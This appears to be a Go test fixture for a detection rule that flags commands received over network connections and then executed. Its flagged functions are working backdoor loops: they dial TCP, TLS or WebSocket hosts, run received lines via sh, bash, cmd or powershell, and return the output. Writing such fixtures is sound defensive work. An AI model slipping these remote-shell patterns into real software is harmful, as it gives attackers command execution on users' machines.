// Fixture for go-network-command-exec.
// RULEID: lines from a dialled TCP/TLS connection run with sh -c / cmd /c; conn.Read into a
// buffer; a WebSocket message run as a command; a net.Conn handed to a helper that runs lines.
// OK: a fixed command whose output is sent over the connection; a connection's data logged;
// exec of a literal command unrelated to the connection; an HTTP server reading a request.
package agent

import (
	"bufio"
	"crypto/tls"
	"io"
	"log"
	"net"
	"os/exec"
	"strings"
	"time"

	"github.com/gorilla/websocket"
)

func beacon(addr string) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return
	}
	r := bufio.NewReader(conn)
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			return
		}
		// ruleid: go-network-command-exec
		out, _ := exec.Command("/bin/sh", "-c", strings.TrimSpace(line)).CombinedOutput()
		conn.Write(out)
	}
}

func tlsLoop() {
	c, _ := tls.Dial("tcp", "update.example.net:443", &tls.Config{})
	sc := bufio.NewScanner(c)
	for sc.Scan() {
		job := sc.Text()
		// ruleid: go-network-command-exec
		res, _ := exec.Command("cmd", "/c", job).Output()
		c.Write(res)
	}
}

func rawRead() {
	s, err := net.DialTimeout("tcp", "10.1.2.3:9001", 5*time.Second)
	if err != nil {
		return
	}
	buf := make([]byte, 4096)
	n, _ := s.Read(buf)
	payload := string(buf[:n])
	// ruleid: go-network-command-exec
	cmd := exec.Command("bash", "-c", payload)
	cmd.Run()
}

func wsChannel(u string) {
	ws, _, err := websocket.DefaultDialer.Dial(u, nil)
	if err != nil {
		return
	}
	for {
		_, msg, err := ws.ReadMessage()
		if err != nil {
			break
		}
		parts := strings.Fields(string(msg))
		// ruleid: go-network-command-exec
		o, _ := exec.Command(parts[0], parts[1:]...).Output()
		ws.WriteMessage(websocket.TextMessage, o)
	}
}

func serve(conn net.Conn) {
	all, _ := io.ReadAll(conn)
	// ruleid: go-network-command-exec
	exec.Command("sh", "-c", string(all)).Start()
}

func dialer() {
	d := &net.Dialer{Timeout: time.Second}
	k, _ := d.Dial("tcp", "198.51.100.4:53")
	rd := bufio.NewReader(k)
	l, _ := rd.ReadString('\n')
	// ruleid: go-network-command-exec
	exec.Command("powershell", "-Command", l).Run()
}

// A health reporter: runs a fixed command and sends its output.
func report(addr string) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return
	}
	defer conn.Close()
	// ok: go-network-command-exec
	out, _ := exec.Command("uptime").Output()
	conn.Write(out)
}

// Logs what the peer says and runs a literal maintenance script.
func watch(conn net.Conn) {
	line, _ := bufio.NewReader(conn).ReadString('\n')
	log.Printf("peer said %q", line)
	// ok: go-network-command-exec
	exec.Command("/bin/sh", "-c", "systemctl reload myservice").Run()
}

// A local command whose name comes from configuration, not from the connection.
func runHook(hook string, conn net.Conn) {
	defer conn.Close()
	// ok: go-network-command-exec
	exec.Command("sh", "-c", hook).Run()
}
